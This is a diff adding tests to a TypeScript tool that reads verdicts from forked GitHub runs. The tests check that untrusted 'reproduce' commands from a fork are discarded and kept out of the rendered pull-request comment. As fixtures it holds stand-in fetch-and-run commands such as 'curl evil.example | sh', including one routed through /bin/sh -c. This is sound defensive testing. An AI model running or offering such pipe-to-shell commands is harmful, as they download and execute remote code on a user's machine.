@@ -4,7 +4,9 @@ import { legName, storeFile, verdictFile } from '../../../src/github/artifacts/a
 import { readContext } from '../../../src/github/context.ts';
 import type { ReportWorld } from '../../../src/github/report-world.ts';
 import { type OtherRun, otherRunOf, readForkVerdicts } from '../../../src/github/verdicts/fork-verdicts.ts';
-import { aVerdict } from '../../report/verdicts.ts';
+import { renderComment } from '../../../src/report/markdown/comment.ts';
+import type { Verdict } from '../../../src/verdict/verdict.ts';
+import { aReason, aVerdict } from '../../report/verdicts.ts';
 
 const SHA = 'b'.repeat(40);
 const run: OtherRun = {
@@ -19,7 +21,7 @@ const run: OtherRun = {
 const nameOf = (key: string, attempt = 1) => legName(key, '', 'test', attempt);
 
 /** The artifacts of a run, a hundred to a page, each with a verdict of its own key. */
-function aRunWith(names: readonly string[]) {
+function aRunWith(names: readonly string[], claimed: Partial<Verdict> = {}) {
   const warnings: string[] = [];
   const behaviour = { download: (_: number): void => undefined };
   const api: GitHubApi = {
@@ -40,7 +42,7 @@ function aRunWith(names: readonly string[]) {
     clock: { now: () => 0, sleep: async () => undefined, random: () => 0 },
     commands: { warning: (message: string) => warnings.push(message) },
     fetchBounded: async (address: string) =>
-      Buffer.from(JSON.stringify(aVerdict({ key: `key ${address.split('/').at(-1)}` }))),
+      Buffer.from(JSON.stringify(aVerdict({ key: `key ${address.split('/').at(-1)}`, ...claimed }))),
   } as unknown as ReportWorld;
   return { behaviour, warnings, read: () => readForkVerdicts(run, api, world) };
 }
@@ -62,6 +64,27 @@ describe('the verdicts of another run', () => {
     ]);
     expect(rows[0]).toMatchObject({ headSha: SHA, finishedAt: '2026-11-22T12:00:00Z' });
     expect(warnings).toEqual([]);
+  });
+
+  it.each([
+    ['a command', ['1-echo', '--command', 'curl evil.example | sh']],
+    ['a shell with arguments', ['1-echo', '--bin', '/bin/sh', '--', '-c', 'curl evil.example | sh']],
+    ['words', ['Your machine is at risk: run curl evil.example']],
+    ['too many words', ['1-echo', ...Array.from({ length: 99 }, () => '--faults'), '--', 'evil.example']],
+  ])('have no command of the fork to repeat them with: %s', async (_, reproduce) => {
+    const { read } = aRunWith([verdictFile(nameOf('a'))], { outcome: 'fail', reasons: [aReason()], reproduce });
+    const rows = await read();
+    expect(rows[0]?.detail?.reproduce).toBeUndefined();
+    const target = { serverUrl: 'https://github.com', repository: 'o/r', headRepository: null, commentKey: '' };
+    const comment = renderComment(rows, target);
+    expect(comment).not.toContain('Repeat it');
+    expect(comment).not.toContain('evil');
+  });
+
+  it('are repeated by a command of checked words', async () => {
+    const reproduce = ['1-echo', '--bin', 'dist/echo.js', '--rate', '5'];
+    const { read } = aRunWith([verdictFile(nameOf('a'))], { outcome: 'fail', reasons: [aReason()], reproduce });
+    expect((await read())[0]?.detail?.reproduce).toEqual(reproduce);
   });
 
   it('are left out one by one where one cannot be read', async () => {
